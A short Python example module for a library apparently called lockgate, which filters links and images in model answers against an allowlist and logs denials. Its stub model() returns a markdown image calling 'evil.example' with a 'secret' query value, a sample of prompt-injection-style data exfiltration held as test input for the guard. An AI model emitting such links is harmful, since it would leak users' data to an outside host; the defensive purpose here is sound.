"""What the programs of this folder share: one policy, one guard a conversation, denials to the log."""

from __future__ import annotations

import logging

from lockgate.render import Guard, Provenance, Rendered, RenderPolicy

POLICY = RenderPolicy.of(links=["https://docs.example.com/*"], images=["https://cdn.example.com/charts/*"])
log = logging.getLogger("answers")


def guard_for(message: str) -> Guard:
    """A guard that knows the URLs of the user's own message."""
    known = Provenance()
    known.add_message(message)
    return Guard(POLICY, known)


def audited(shown: Rendered) -> Rendered:
    """Log each denial before the answer is shown."""
    for denial in shown.denials:
        log.warning("denied %s for %s: %s %s", denial.kind, denial.sink, denial.reason, denial.host)
    return shown


def model(message: str) -> str:
    """Stands in for your model: an answer that tries to send something out."""
    return f"You asked: {message}\n\n![chart](https://evil.example/?d=secret) [docs](https://docs.example.com/start)"
